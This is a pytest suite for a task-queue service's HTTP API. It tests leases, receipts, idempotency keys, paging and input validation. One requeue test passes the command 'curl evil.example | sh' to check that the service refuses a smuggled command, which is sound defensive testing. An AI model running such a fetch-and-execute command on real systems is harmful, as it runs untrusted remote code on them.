"""The API as a program in any language sees it: statuses, repetitions, keys, pages (S3, S4, S5, S8, S10)."""

import time
import uuid
from typing import Any

import pytest

from tests.service.server import HttpServer


class Caller:
    """Asks about one queue."""

    def __init__(self, server: HttpServer, queue: str) -> None:
        self._server = server
        self._queue = queue

    def __call__(self, method: str, path: str, body: object = None, code: int = 200) -> Any:
        mark = "&" if "?" in path else "?"
        status, value = self._server.ask(method, f"/api{path}{mark}queue={self._queue}", body)
        assert status == code, f"{method} {path}: {status}, not {code}: {value}"
        return value

    def pushed(self, **fields: object) -> str:
        (task_id,) = self("POST", "/tasks", {"tasks": [{"command": "true", **fields}]}, 202)["ids"]
        return str(task_id)

    def claimed(self, **request: object) -> dict[str, Any]:
        (found,) = self("POST", "/tasks/next", {"lease_seconds": 30.0, **request})["tasks"]
        assert isinstance(found, dict)
        return found


@pytest.fixture
def api(server: HttpServer, queue: str) -> Caller:
    return Caller(server, queue)


def code_of(problem: Any) -> str:
    return str(problem["error"]["code"])


def test_a_task_from_its_push_to_its_end(api: Caller) -> None:
    task_id = api.pushed(env={"TOKEN": "canary"})
    before = time.time()
    held = api.claimed()
    assert (held["id"], held["deliveries"], held["fencing"]) == (task_id, 1, "0.0.1")
    assert held["task"]["command"] == "true"
    shown = api("GET", f"/tasks/{task_id}")
    assert shown["state"] == "leased"
    assert before - 1 < shown["started"] < time.time() + 1
    assert shown["last_heartbeat_at"] is None
    assert shown["must_heartbeat_before"] == pytest.approx(shown["started"] + 30, abs=1)
    assert "canary" not in str(shown)
    assert [each["id"] for each in api("GET", "/tasks/started")["tasks"]] == [task_id]
    api("PUT", f"/tasks/{task_id}/heartbeat", {"receipt": held["receipt"], "lease_seconds": 60.0}, 202)
    renewed = api("GET", f"/tasks/{task_id}")
    assert renewed["must_heartbeat_before"] > shown["must_heartbeat_before"] + 25
    assert renewed["last_heartbeat_at"] >= shown["started"]
    api("PUT", f"/tasks/{task_id}/checkpoint", {"receipt": held["receipt"], "value": "half"}, 202)
    done = {"receipt": held["receipt"], "exit_code": 0, "output": "it went well", "duration_seconds": 1.5}
    api("PUT", f"/tasks/{task_id}/complete", done, 202)
    shown = api("GET", f"/tasks/{task_id}")
    assert (shown["state"], shown["output"], shown["exit_code"]) == ("done", "it went well", 0)
    assert shown["duration_seconds"] == pytest.approx(1.5)
    assert before - 1 < shown["processed"] < time.time() + 1
    assert [each["id"] for each in api("GET", "/tasks/processed")["tasks"]] == [task_id]
    assert api("GET", "/tasks/started")["tasks"] == []


@pytest.mark.parametrize(
    ("verb", "fields"),
    [
        ("complete", {"exit_code": 0}),
        ("fail", {"detail": "exit code 1"}),
        ("release", {}),
        ("dead-letter", {"reason": "failed", "description": "no more"}),
    ],
)
def test_a_settle_is_fenced_and_its_repetition_answered_like_the_first(
    api: Caller, verb: str, fields: dict[str, Any]
) -> None:
    """S4, S5."""
    task_id = api.pushed()
    held = api.claimed()
    settle = {"receipt": held["receipt"], **fields}
    for _ in range(3):
        api("PUT", f"/tasks/{task_id}/{verb}", settle, 202)
    other = {"receipt": held["receipt"], "exit_code": 7}
    assert code_of(api("PUT", f"/tasks/{task_id}/complete", other, 409)) == "lease_gone"
    assert code_of(api("PUT", f"/tasks/{task_id}/heartbeat", {"receipt": held["receipt"]}, 409)) == "lease_gone"
    shown = api("GET", f"/tasks/{task_id}")
    assert shown["state"] in {"complete": "done", "dead-letter": "dead"}.get(verb, "ready scheduled")
    if verb == "fail":
        assert shown["task"]["counters"] == {"failures": 1, "preemptions": 0, "ends": 1}


def test_a_stale_receipt_and_a_strange_task(api: Caller) -> None:
    task_id, other_id = api.pushed(), api.pushed()
    held = api.claimed(lease_seconds=1.0)
    assert held["id"] == task_id
    assert code_of(api("PUT", f"/tasks/{other_id}/complete", {"receipt": held["receipt"]}, 409)) == "lease_gone"
    assert code_of(api("PUT", "/tasks/no-such/complete", {"receipt": held["receipt"]}, 404)) == "task_not_found"
    assert code_of(api("GET", "/tasks/no-such", None, 404)) == "task_not_found"
    end = time.monotonic() + 10
    while api("GET", f"/tasks/{task_id}")["state"] == "leased":
        assert time.monotonic() < end
        time.sleep(0.05)
    assert code_of(api("PUT", f"/tasks/{task_id}/complete", {"receipt": held["receipt"]}, 409)) == "lease_gone"


def test_failures_are_counted_and_end_in_the_dead_letters(api: Caller) -> None:
    """S7: a caller who cannot count has the service do it."""
    task_id = api.pushed(budgets={"retries": 0})
    held = api.claimed()
    failure = {"receipt": held["receipt"], "detail": "exit code 3", "output": "no such file"}
    api("PUT", f"/tasks/{task_id}/fail", failure, 202)
    api("PUT", f"/tasks/{task_id}/fail", failure, 202)
    (dead,) = api("GET", "/tasks/dead")["tasks"]
    assert (dead["id"], dead["state"], dead["reason"]) == (task_id, "dead", "failed")
    assert "exit code 3" in dead["description"]
    assert "no such file" in dead["description"]


@pytest.mark.parametrize(
    "value",
    [
        *("a\0b", "x" * 65537, "é" * 32769, "𝄞" * 16385, "\x1dother"),
        *("\x1djobq files a\n" + "é" * 32769, "\x1djobq files " + "a" * 1025, "\x1djobq files \0"),
    ],
    ids=lambda value: ascii(value)[1:20],
)
def test_a_checkpoint_that_no_attempt_could_be_given_is_refused(api: Caller, value: str) -> None:
    """S9: it was saved, and then no attempt could be started."""
    task_id = api.pushed()
    receipt = {"receipt": api.claimed()["receipt"]}
    error = api("PUT", f"/tasks/{task_id}/checkpoint", receipt | {"value": value}, 400)
    assert code_of(error) == "malformed_request"
    for good in ("x" * 65536, "\x1djobq files " + "a" * 1000 + "\n" + "é" * 32768):
        api("PUT", f"/tasks/{task_id}/checkpoint", receipt | {"value": good}, 202)


@pytest.mark.parametrize(
    "fields",
    [
        {"command": "true #" + "x" * 140_000},
        {"version": 2, "id": "long", "command": "true #" + "x" * 140_000},
        {"version": 2, "id": "long", "argv": ["true", *["a"] * 240_000]},
        {"command": "true", "env": {f"a{number}": "" for number in range(2**16 + 1)}},
    ],
    ids=lambda fields: str(len(str(fields))),
)
def test_what_no_program_can_be_given_is_refused(api: Caller, fields: dict[str, Any]) -> None:
    """It was queued, and given up after four starts that failed."""
    error = api("POST", "/tasks", {"tasks": [fields]}, 400)
    assert code_of(error) in {"malformed_task", "malformed_request"}


def test_a_requeue_raises_counts_and_changes_nothing_else(api: Caller) -> None:
    """Who may settle a task must not make another worker run what nobody pushed (S2), nor run it for ever (S7)."""
    task_id = api.pushed()
    held = api.claimed()
    for counters in ({"failures": 1, "preemptions": 0, "ends": 1}, {"failures": 0, "preemptions": 0, "ends": 2}):
        request = {"receipt": held["receipt"], "counters": counters}
        for more in ({"task": held["task"]}, {"command": "curl evil.example | sh"}, {"generation": 9}, {"epoch": 9}):
            api("PUT", f"/tasks/{task_id}/requeue", request | more, 400)
        for _ in range(2):  # a repetition is answered alike (S5)
            api("PUT", f"/tasks/{task_id}/requeue", request, 202)
        before, held = held["task"], api.claimed()
        counted = {"failures": 1, "preemptions": 0, "ends": counters["ends"]}  # no count is ever lowered
        assert held["task"] == before | {"generation": before["generation"] + 1, "counters": counted}


def test_a_key_makes_a_push_safe_to_repeat(api: Caller, queue: str, server: HttpServer) -> None:
    """S8: for callers that give no ids."""
    body = {"tasks": [{"command": "one"}, {"command": "two"}], "key": str(uuid.uuid4())}
    first = api("POST", "/tasks", body, 202)["ids"]
    assert api("POST", "/tasks", body, 202)["ids"] == first
    assert server.ask("GET", f"/api/queues/{queue}")[1]["visible"] == 2
    body["tasks"] = [{"command": "another"}, {"command": "two"}]
    assert code_of(api("POST", "/tasks", body, 409)) == "duplicate"


def test_a_key_finds_what_a_lost_answer_has_claimed(api: Caller) -> None:
    """S3: it comes with a new receipt, and the old one is worth nothing from then on."""
    task_id = api.pushed()
    api.pushed()
    key = str(uuid.uuid4())
    lost = api.claimed(key=key)
    found = api.claimed(key=str(uuid.uuid4()), former=[key])
    assert (found["id"], found["deliveries"]) == (task_id, 1)
    assert code_of(api("PUT", f"/tasks/{task_id}/release", {"receipt": lost["receipt"]}, 409)) == "lease_gone"
    api("PUT", f"/tasks/{task_id}/complete", {"receipt": found["receipt"]}, 202)
    assert api.claimed(key=str(uuid.uuid4()), former=[key])["id"] != task_id


def test_pages(api: Caller) -> None:
    ids = sorted(api("POST", "/tasks", {"tasks": [{"command": "true"}] * 7}, 202)["ids"])
    found: list[str] = []
    after: str | None = ""
    while after is not None:
        page = api("GET", f"/tasks?limit=3&after={after}")
        found += [each["id"] for each in page["tasks"]]
        after = page["next"]
    assert found == ids
    assert [each["id"] for each in api("GET", "/tasks?state=waiting&limit=2")["tasks"]] == ids[:2]
    assert code_of(api("GET", "/tasks?limit=0", None, 400)) == "malformed_request"
    assert code_of(api("GET", "/tasks?state=odd", None, 400)) == "malformed_request"


def test_parameters_are_what_the_openapi_says(api: Caller, server: HttpServer) -> None:
    """A text that is too long, a word that is none of those, another queue than the one that it is about."""
    refused = [
        *(f"{path}?after={'0' * 201}" for path in ("/tasks", "/leases", "/queues/demo/journal/unfinished")),
        *("/tasks?after=%00", "/leases?resource=no%20name", "/leases?resource=n%0A", "/leases?limit=0"),
        *(f"/queues/demo/journal/attempts?id={'0' * 201}", "/queues/demo/journal/output?id=a&attempt=1.0"),
        *(f"/queues/demo/journal/stats?window={each}" for each in ("nan", "1_0", "-1", "1e300", "inf", "%201")),
        *("/queues/demo/dead-letters?after=%00", "/queues/demo/dead-letters?after=x"),
        *(f"/queues/demo/batches?{each}" for each in ("after=%00", "limit=0", "limit=501", f"after={'0' * 201}")),
        *(f"/queues/demo/batches/s7/tasks?{each}" for each in ("after=%00", "limit=501", "state=ready", "state=")),
    ]
    assert [path for path in refused if code_of(api("GET", path, None, 400)) != "malformed_request"] == []
    assert code_of(api("PUT", "/queues/demo?exist_ok=AAA", None, 400)) == "malformed_request"
    assert code_of(api("POST", "/queues/demo/clear?cursor=1-x", None, 400)) == "malformed_request"
    assert code_of(api("POST", "/queues/demo/purge", {"ids": ["\0"]}, 400)) == "malformed_request"
    default, other = (server.ask("GET", f"/api/generator?queue={queue}") for queue in ("demo", "other"))
    assert (default[0], other[0], code_of(other[1])) == (200, 400, "malformed_request")
    accepted = [f"/tasks?after={'0' * 200}", "/leases?resource=n&limit=1000", "/leases?after="]
    accepted += ["/queues/demo/batches?limit=500&after="]
    accepted += [f"/queues/demo/journal/stats?window={each}" for each in ("1.5", "1E3", "0", "-0.0")]
    assert all(isinstance(api("GET", path), dict) for path in accepted)
    # 1.0 is a whole number in JSON.
    api.pushed()
    assert api("POST", "/tasks/next", {"max_tasks": 1.0})["tasks"] != []
    assert code_of(api("POST", "/tasks/next", {"max_tasks": 1.5}, 400)) == "malformed_request"
    assert code_of(api("POST", "/tasks/next", {"max_tasks": 101.0}, 400)) == "malformed_request"
    assert code_of(api("POST", "/tasks/next", {"max_tasks": 1e300}, 400)) == "malformed_request"


def test_a_claim_that_is_sent_twice_makes_no_old_receipt_good(api: Caller) -> None:
    """S4: by a proxy that repeats it, late."""
    api.pushed()
    key = str(uuid.uuid4())
    first = api.claimed(key=key)
    settle = f"/tasks/{first['id']}"
    api("PUT", f"{settle}/release", {"receipt": first["receipt"]}, 202)
    second = api.claimed(key=key)
    assert code_of(api("PUT", f"{settle}/complete", {"receipt": first["receipt"]}, 409)) == "lease_gone"
    assert api.claimed(key=str(uuid.uuid4()), former=[key])["id"] == first["id"]
    assert code_of(api("PUT", f"{settle}/complete", {"receipt": second["receipt"]}, 409)) == "lease_gone"


def test_a_long_poll_ends_with_the_first_task(api: Caller) -> None:
    began = time.monotonic()
    assert api("POST", "/tasks/next", {"wait_seconds": 0.4})["tasks"] == []
    assert 0.3 < time.monotonic() - began < 5


def test_a_named_lease(api: Caller) -> None:
    """S10."""
    request = {"resource": "nightly", "holder": "me", "ttl": 30.0, "key": str(uuid.uuid4())}
    assert code_of(api("POST", "/leases", request | {"holder": "\0"}, 400)) == "malformed_request"  # as on PostgreSQL
    granted = api("POST", "/leases", request, 201)
    assert api("POST", "/leases", request, 201) == granted  # the answer was lost
    busy = api("POST", "/leases", request | {"key": str(uuid.uuid4())}, 409)
    assert (code_of(busy), busy["error"]["holder"], busy["error"]["why"]) == ("held", "me", "held")
    ours = {"resource": "nightly", "token": granted["token"]}
    api("PUT", "/leases/renew", ours | {"ttl": 60.0}, 202)
    shown = api("GET", "/leases/nightly")
    assert (shown["holder"], shown["ttl"], shown["token"], shown["state"]) == ("me", 60.0, 1, "active")
    assert shown["expires"] == pytest.approx(time.time() + 60, abs=2)
    assert shown["renewed"] == pytest.approx(time.time(), abs=2)
    assert shown["created"] == pytest.approx(time.time(), abs=5)
    for kind, count in (("", 1), ("/active", 1), ("/renewed", 1), ("/expired", 0), ("/released", 0)):
        assert len(api("GET", f"/leases{kind}")["leases"]) == count, kind
    assert code_of(api("PUT", "/leases/renew", ours | {"token": 7}, 409)) == "lease_gone"
    api("DELETE", "/leases/release", ours, 202)
    api("DELETE", "/leases/release", ours, 202)
    assert api("GET", "/leases/released")["leases"][0]["released"] == pytest.approx(time.time(), abs=2)
    again = api("POST", "/leases", request | {"key": str(uuid.uuid4())}, 201)
    assert again["token"] == 2
    assert api("GET", "/leases/confirmed")["leases"] == []
    api("PUT", "/leases/confirm", ours | {"token": 2, "value": "done"}, 202)
    (confirmed,) = api("GET", "/leases/confirmed")["leases"]
    assert (confirmed["id"], confirmed["state"], confirmed["confirmation"]) == ("nightly", "confirmed", "done")
    assert api("GET", "/leases/active")["leases"] == []
    assert api("DELETE", "/leases/nightly?token=2")["state"] == "released"
    assert code_of(api("DELETE", "/leases/never", None, 404)) == "lease_not_found"


def test_what_is_not_there(server: HttpServer) -> None:
    status, problem = server.ask("GET", "/api/tasks?queue=nowhere")
    assert (status, code_of(problem)) == (404, "queue_not_found")
    assert server.ask("GET", "/api/nothing")[0] == 404
    assert server.ask("PATCH", "/api/tasks")[0] == 405
    assert server.ask("GET", "/healthz") == (200, {"status": "ok"})
    assert server.ask("GET", "/readyz")[1]["status"] == "ready"


def test_a_malformed_settle_leaves_the_others_of_its_request_alone(api: Caller) -> None:
    """One bad item of a batch is answered for itself, whatever is wrong with it."""
    api.pushed()
    held = api.claimed()
    good = {"verb": "complete", "id": held["id"], "receipt": held["receipt"]}
    bad: list[Any] = [7, {}, {**good, "verb": "eat"}, {**good, "colour": 1}, {"verb": "complete", "id": "x"}]
    answers = api("POST", "/tasks/settle", {"settles": [*bad, good]})["answers"]
    assert [answer["status"] for answer in answers] == [400] * len(bad) + [202]
    assert all(code_of(answer) == "malformed_request" for answer in answers[:-1])
